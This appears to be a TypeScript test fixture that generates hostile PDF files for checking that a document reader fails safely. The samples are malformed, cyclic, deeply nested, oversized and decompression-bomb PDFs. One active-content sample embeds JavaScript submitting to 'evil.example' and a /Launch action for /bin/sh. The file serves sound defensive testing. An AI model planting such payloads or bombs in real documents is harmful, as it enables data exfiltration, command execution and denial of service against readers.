import { joined, latin1, packed, packedBomb } from '../files/bytes.ts';
import { drawn, font, page, pdfOf, streamOf, textPdf } from '../files/pdf-bytes.ts';
import { type HostileFile, read, refused } from './hostile-file.ts';

const question = '1. Describe your project. (max. 300 words)';
const onePage = [[question]];
const zlib = (data: Uint8Array) => joined(Uint8Array.of(0x78, 0x9c), data);

/** A document that needs a password: its keys fit no password that a reader tries by itself. */
const encrypted = () =>
  textPdf(
    onePage,
    '',
    [`<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <${'4e'.repeat(32)}> /U <${'7a'.repeat(32)}> >>`],
    `/Encrypt 6 0 R /ID [<${'01'.repeat(16)}> <${'01'.repeat(16)}>]`,
  );

/** One page that shows a gray picture, as a scanner makes it. */
const scan = () =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>',
    streamOf('q 595 0 0 842 0 0 cm /I Do Q'),
    {
      dictionary:
        '/Type /XObject /Subtype /Image /Width 200 /Height 280 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode',
      stream: zlib(packed(new Uint8Array(200 * 280).fill(0xee)).data),
    },
  ]);

/** A page below many nodes, each with one child. */
function pageTree(levels: number) {
  const numberOf = (level: number) => (level === 0 ? 2 : 5 + level);
  const node = (level: number) => {
    const child = level === levels - 1 ? 4 : numberOf(level + 1);
    const parent = level === 0 ? '' : `/Parent ${numberOf(level - 1)} 0 R`;
    return `<< /Type /Pages /Count 1 /Kids [${child} 0 R] ${parent} >>`;
  };
  const below = Array.from({ length: levels - 1 }, (_, index) => node(index + 1));
  const ends = [font, page(5, numberOf(levels - 1)), streamOf(drawn([question]))];
  return pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', node(0), ...ends, ...below]);
}

const contentBomb = (filters: string, stream: Uint8Array) =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
    font,
    page(5),
    { dictionary: `/Filter ${filters}`, stream },
  ]);

export const pdfFiles: HostileFile[] = [
  {
    id: 'pdf-encrypted',
    name: 'guidelines.pdf',
    bytes: encrypted,
    outcomes: refused('encrypted'),
    why: 'It opens with a password alone.',
  },
  {
    id: 'pdf-truncated',
    name: 'call.pdf',
    bytes: () => textPdf(Array.from({ length: 9 }, () => [question])).slice(0, 450),
    outcomes: refused('damaged', 'no-text'),
    why: 'The transfer broke off in the first pages; there is no table of objects.',
  },
  {
    id: 'pdf-header-alone',
    name: 'call.pdf',
    bytes: () => joined(latin1('%PDF-1.7\n'), new Uint8Array(5000).fill(0x41)),
    outcomes: refused('damaged'),
    why: 'It begins like a PDF and is none.',
  },
  {
    id: 'pdf-300-pages',
    name: 'handbook.pdf',
    bytes: () => textPdf(Array.from({ length: 300 }, (_, at) => [`Page ${at + 1}`, question])),
    outcomes: refused('too-many-pages'),
    why: 'No call has 300 pages.',
  },
  {
    id: 'pdf-scan',
    name: 'scan.pdf',
    bytes: scan,
    outcomes: refused('no-text'),
    why: 'Its words are a picture: pasting is offered.',
  },
  {
    id: 'pdf-100000-objects',
    name: 'call.pdf',
    bytes: () =>
      textPdf(
        onePage,
        '',
        Array.from({ length: 100_000 }, (_, at) => `[${at}]`),
      ),
    outcomes: [...read(['Describe your project.']), ...refused('too-complex')],
    why: 'Objects that no page uses cost little if nobody reads them.',
  },
  {
    id: 'pdf-deep-page-tree',
    name: 'call.pdf',
    bytes: () => pageTree(20_000),
    outcomes: [...read(['Describe your project.']), ...refused('too-complex', 'damaged')],
    why: 'Twenty thousand levels end a reader that calls itself for each.',
  },
  {
    id: 'pdf-page-tree-cycle',
    name: 'call.pdf',
    bytes: () =>
      pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R >>',
      ]),
    outcomes: refused('damaged', 'too-complex', 'no-text'),
    why: 'A tree that holds itself has no end.',
  },
  {
    id: 'pdf-active-content',
    name: 'form.pdf',
    bytes: () =>
      textPdf(
        onePage,
        '/OpenAction 6 0 R /AA << /WC 7 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >>',
        [
          '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\);) >>',
          '<< /S /Launch /F (/bin/sh) /NewWindow true >>',
        ],
      ),
    outcomes: read(['Describe your project.'], ['app.alert', '/bin/sh', 'evil.example']),
    why: 'Scripts and launch actions are no text: nothing runs them.',
  },
  {
    id: 'pdf-table-cycle',
    name: 'call.pdf',
    bytes: () => {
      const plain = textPdf(onePage);
      const start = new TextDecoder('latin1').decode(plain).lastIndexOf('xref\n0');
      return textPdf(onePage, '', [], `/Prev ${start}`);
    },
    outcomes: [...read(['Describe your project.']), ...refused('damaged')],
    why: 'The table of objects names itself as the one before it.',
  },
  {
    id: 'pdf-stream-bomb',
    name: 'call.pdf',
    bytes: () => contentBomb('/FlateDecode', zlib(packedBomb(1024, '0 0 m ').data)),
    outcomes: refused('expands-too-much', 'too-complex', 'no-text'),
    why: 'One page draws a gibibyte of nothing.',
  },
  {
    id: 'pdf-nested-filters',
    name: 'call.pdf',
    bytes: () => {
      const inner = zlib(packedBomb(1024, ' ').data);
      return contentBomb('[/FlateDecode /FlateDecode]', zlib(packed(inner).data));
    },
    outcomes: refused('expands-too-much', 'too-complex', 'no-text'),
    why: 'Packed twice, a gibibyte is a few kilobytes.',
  },
];
